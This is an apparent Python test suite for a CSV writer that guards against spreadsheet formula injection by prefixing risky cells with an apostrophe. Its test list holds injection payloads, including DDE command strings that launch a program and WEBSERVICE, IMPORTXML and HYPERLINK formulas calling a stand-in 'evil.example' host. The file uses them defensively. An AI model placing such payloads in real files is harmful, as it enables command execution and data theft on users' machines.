"""A CSV of ours is text wherever it is opened: no cell is a formula, and everything comes back as it was."""

import csv
import io
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from guidance_app.rendering.csv_text import write_csv

# Forty ways to start a formula in Excel, LibreOffice or Google Sheets, or to smuggle a cell or a line.
HOSTILE = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\0=1+1", " =1+1", "   =1+1", "\u00a0=1+1", '"=1+1"', "'=1+1",
    '""=1+1', '"\t=1+1', "=HYPERLINK(\"http://evil.example\",\"x\")", "=IMPORTXML(\"http://evil.example\")",
    "=WEBSERVICE(\"http://evil.example\")", "=1+1,=2+2", "=1+1\r\n=2+2", "=\"a\"\"b\"", "\tSUM(A1)", "\rSUM(A1)",
    "\nSUM(A1)", "-", "=", "+", "@", "--1", "+-1", "|calc", "%0A=1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(A1)",
    "\u200b=1+1", "\ufeff=1+1",
]  # fmt: skip
FORMULA_SIGNS = "=+-@\t\r\n\0|%\uff1d\uff0b\uff0d\uff20"


def read(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("cell", HOSTILE)
def test_what_starts_like_a_formula_starts_with_an_apostrophe(cell: str) -> None:
    rows = read(write_csv(["Title", "Next"], [[cell, "kept"]]))
    assert len(rows) == 2
    assert rows[1][0].startswith("'")
    assert rows[1] == ["'" + cell.replace("\0", ""), "kept"]


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=1, max_size=5))
def test_no_text_at_all_makes_a_formula_another_cell_or_another_row(cells: list[str]) -> None:
    rows = read(write_csv(["A"] * len(cells), [cells]))
    assert [len(row) for row in rows] == [len(cells), len(cells)]
    for cell, given_cell in zip(rows[1], cells, strict=True):
        assert cell.removeprefix("'") == given_cell.replace("\0", "").removeprefix("'")
        begins = cell.lstrip(' "\u00a0\u200b\ufeff')[:1]
        assert not begins or begins not in FORMULA_SIGNS


def test_days_are_iso_numbers_are_numbers_and_nothing_is_empty() -> None:
    text = write_csv(["Document", "Due", "Days", "Since"], [["HBA-001 Ängste, “x”", date(2027, 3, 3), -5, None]])
    assert text == '\ufeffDocument,Due,Days,Since\r\n"HBA-001 Ängste, “x”",2027-03-03,-5,\r\n'


def test_a_heading_is_guarded_like_any_cell() -> None:
    assert read(write_csv(["=1+1"], []))[0] == ["'=1+1"]
